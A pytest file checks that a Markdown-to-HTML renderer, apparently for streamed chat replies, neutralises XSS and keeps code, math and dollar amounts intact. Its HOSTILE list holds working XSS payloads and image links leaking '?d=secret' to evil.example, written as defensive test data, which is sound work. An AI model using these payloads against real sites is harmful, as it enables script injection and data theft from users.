"""Markdown to HTML: nothing executes, nothing loads, code and money come out as they went in."""

import json
import lzma
import random
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.render import _ATTRIBUTES, _MATHML, _TAGS, MAX_MARKDOWN_CHARS, LiveRendering, Renderer

RENDERER = Renderer()
ALLOWED = {*_TAGS, *_MATHML}
NAMES = {name for names in _ATTRIBUTES.values() for name in names} | {
    *("class", "target", "rel", "style"),
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "${print(1)} `${print(1)}` {{value}} ${alert`1`}",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](data:text/html,<script>1</script>)",
    "[x](vbscript:msgbox(1)) [x](&#106;avascript:alert(1)) [x](\x01javascript:alert(1))",
    "![x](http://evil.example/?d=secret) ![x][1]\n\n[1]: http://evil.example/ref",
    "![x](/gradio_api/file=http://evil.example/?d=secret)",
    "[x](//evil.example) [x](/gradio_api/file=http://evil.example)",
    '<http://evil.example/a" onmouseover=alert(1)>',
    '[a](http://x "title\\" onclick=alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    '``` python" onclick=alert(1)\ncode\n```',
    r"\(\href{javascript:alert(1)}{x}\) \(\text{<script>alert(1)</script>}\)",
    r"$\style{background:url(http://evil.example)}{x}$ $$\url{http://evil.example}$$",
    r"\[\includegraphics{http://evil.example/x.png}\]",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='http://x' style='background:url(http://evil.example)'>x</a>",
    "| a <img src=x onerror=alert(1)> |\n|--|\n| <iframe srcdoc='<script>1</script>'> |",
    "<style>*{background:url(http://evil.example)}</style>",
    "<form action=http://evil.example><input type=image src=http://evil.example></form>",
]


def live_html(text: str) -> str:
    """What the page shows of `text` while it is being written."""
    live = LiveRendering(RENDERER)
    live.update(text)
    return "".join([*live.blocks, live.tail])


class Markup(HTMLParser):
    """Every start tag with its attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Markup(html).tags:
        assert tag in ALLOWED, (tag, html)
        for name, value in attributes.items():
            assert name in NAMES, (tag, name, html)
            if name == "href":
                assert (value or "").split(":")[0].lower() in {"http", "https", "mailto"}, html
            if name == "style":
                assert value in {"text-align:left", "text-align:right", "text-align:center"}, html


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_text(text: str) -> None:
    assert_harmless(RENDERER.html(text))
    assert_harmless(live_html(text))


def hostile_rows(folder: Path) -> list[str]:
    texts = []
    for name, field in (("xss", "payload"), ("strings", "text")):
        with lzma.open(folder / "hostile" / f"{name}.jsonl.xz", "rt", encoding="utf-8") as rows:
            texts += [json.loads(row)[field] for row in rows]
    assert len(texts) > 6_000
    return texts


@pytest.mark.parametrize("count", [600, pytest.param(100_000, marks=pytest.mark.full)])
def test_hostile_collections_become_text(shared_data: Path, count: int) -> None:
    texts = hostile_rows(shared_data)
    random.Random(6).shuffle(texts)
    for text in texts[:count]:
        for shape in (text, f"[x]({text})", f"`{text}`", f"${text}$"):
            assert_harmless(live_html(shape))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_harmless(text: str) -> None:
    assert_harmless(live_html(text))


def test_template_traps_stay_literal() -> None:
    text = "${print(1)} {{value}} <b>no</b> \\${x}"
    assert Markup(RENDERER.html(text)).text.strip() == "${print(1)} {{value}} <b>no</b> ${x}"


def test_pictures_become_links_and_nothing_is_loaded() -> None:
    html = RENDERER.html("![a cat](https://example.org/cat.png) ![](https://example.org/b.png)")
    tags = Markup(html).tags
    assert [tag for tag, _ in tags] == ["p", "a", "a"]
    assert tags[1][1]["href"] == "https://example.org/cat.png"
    assert Markup(html).text.split() == ["a", "cat", "https://example.org/b.png"]


def test_links_open_elsewhere_and_tell_nothing() -> None:
    _, attributes = Markup(RENDERER.html("[x](https://example.org)")).tags[1]
    assert attributes["target"] == "_blank"
    assert attributes["rel"] == "noopener noreferrer nofollow"


CODE = "\tdef f(x):\n\n  return `x`  \n${print(1)}\n<b> & \\n \"quotes\" 'single' \u00a0end\n\n"


@pytest.mark.parametrize("language", ["", "python", "Makefile", "no-such-language", "c++", "text"])
def test_code_is_byte_exact(language: str) -> None:
    html = RENDERER.html(f"````{language}\n{CODE}````\n")
    assert Markup(html).text.rstrip("\n") + "\n\n" == CODE
    assert Markup(html).tags[0][1]["data-lang"] == language


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(exclude_characters="\r\0", exclude_categories=["Cs"]), max_size=200))
def test_any_code_is_byte_exact(code: str) -> None:
    html = live_html(f"~~~~~~~~ python\n{code}\n~~~~~~~~\n")
    if "~~~~~~~~" not in code:
        assert Markup(html).text == f"{code}\n\n"


def test_the_language_is_shown_without_its_options() -> None:
    html = RENDERER.html("```python title=x\n1\n```")
    assert Markup(html).tags[0] == ("figure", {"class": "code", "data-lang": "python"})


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5.",
        "Between $5 and $10.",
        "From $1,000 to $2,000 a month, or $3/day.",
        "US$ 5 or $6, said Ann; $7 more.",
        "I had $20 and then spent $5 on coffee and $3 on tea$",
        "echo $HOME and $PATH",
        "$5 off now, 10$ later",
        "a $ b $ c",
        r"\$x\$",
    ],
)
def test_money_stays_money(text: str) -> None:
    html = RENDERER.html(text)
    assert "<math" not in html
    assert Markup(html).text.strip() == text.replace("\\$", "$")


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("$x$", 1),
        ("$x_1$ and $y^2$", 2),
        ("$2x + 1 = 5$", 1),
        ("it costs $5, but $x = 5$", 1),
        ("it costs $5, not $6. $$x^2+1$$", 1),
        (r"\(a\) and \[b\]", 2),
        ("$$\na = b\n- c\n$$", 1),
        ("\\[\n\\frac{1}{2}\n\\]", 1),
        ("1. one\n\n   $$x$$\n", 1),
        ("`$x$` and ```$y$```", 0),
    ],
)
def test_math_becomes_mathml(text: str, count: int) -> None:
    assert RENDERER.html(text).count("<math") == count


def test_unreadable_math_is_shown_as_written() -> None:
    text = r"\(\begin{matrix} 1\)"
    html = RENDERER.html(text)
    assert "<math" not in html
    assert r"\begin{matrix} 1" in Markup(html).text


def test_tables_lists_and_emphasis() -> None:
    html = RENDERER.html("| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- *x*\n- ~~y~~\n\n3. z")
    assert '<th style="text-align:center">' in html
    assert "<s>y</s>" in html
    assert '<ol start="3">' in html


def test_a_megabyte_is_shown_without_parsing() -> None:
    text = "*x* " * (MAX_MARKDOWN_CHARS // 4 + 1)
    html = RENDERER.html(text)
    assert html.startswith("<pre><code>*x*")
    assert Markup(html).text == text


DOCUMENT = """# Title

A paragraph of **two**
lines.

- one
- two

  still two

```python
x = 1

y = 2
```

| a | b |
|---|---|
| 1 | 2 |

> quote

\\[
x^2
\\]

1. first
2. second

The end.
"""


def test_a_growing_reply_ends_as_the_whole_one() -> None:
    live = LiveRendering(RENDERER)
    for end in range(1, len(DOCUMENT) + 1):
        live.update(DOCUMENT[:end])
    grown = "".join([*live.blocks, live.tail])
    assert "".join(grown.split()) == "".join(RENDERER.html(DOCUMENT).split())


def test_finished_blocks_are_never_touched_again() -> None:
    live = LiveRendering(RENDERER)
    seen: list[str] = []
    for end in range(1, len(DOCUMENT) + 1):
        live.update(DOCUMENT[:end])
        assert live.blocks[: len(seen)] == seen
        seen = list(live.blocks)
    assert len(seen) >= 8


def test_at_each_moment_the_growing_reply_shows_all_its_text() -> None:
    live = LiveRendering(RENDERER)
    for end in range(1, len(DOCUMENT) + 1):
        live.update(DOCUMENT[:end])
        shown = Markup("".join([*live.blocks, live.tail])).text
        whole = Markup(RENDERER.html(DOCUMENT[:end])).text
        assert "".join(shown.split()) == "".join(whole.split())


def test_a_reply_that_starts_anew_is_rendered_anew() -> None:
    live = LiveRendering(RENDERER)
    live.update("one\n\ntwo\n\nthree")
    live.update("other")
    assert live.blocks == []
    assert Markup(live.tail).text.strip() == "other"


def test_results_are_kept_but_not_for_ever() -> None:
    renderer = Renderer(cache_size=2)
    for text in ("a", "b", "c"):
        renderer.html(text)
    assert list(renderer._cache) == ["b", "c"]


def test_the_words_of_a_message_are_those_that_a_reader_sees() -> None:
    text = "# A **b**old\n\n- `x` [link](http://l)\n\n```py\ncode <b>\n```\n\n|c|d|\n|--|--|\n|1|2|"
    assert " ".join(Renderer().words(text).split()) == "A bold x link code <b> c d 1 2"
